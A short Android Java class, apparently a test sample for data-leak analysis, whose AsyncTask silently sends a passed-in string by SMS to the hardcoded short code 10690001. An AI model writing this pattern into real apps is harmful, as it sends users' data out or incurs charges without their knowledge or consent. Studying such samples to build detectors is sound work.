package cn.shanhai.asynctask;

import android.os.AsyncTask;
import android.telephony.SmsManager;

final class SendTask extends AsyncTask<String, Void, String> {
  @Override
  protected String doInBackground(String... texts) {
    return texts[1];
  }

  @Override
  protected void onPostExecute(String text) {
    SmsManager.getDefault().sendTextMessage("10690001", null, text, null, null);
  }
}
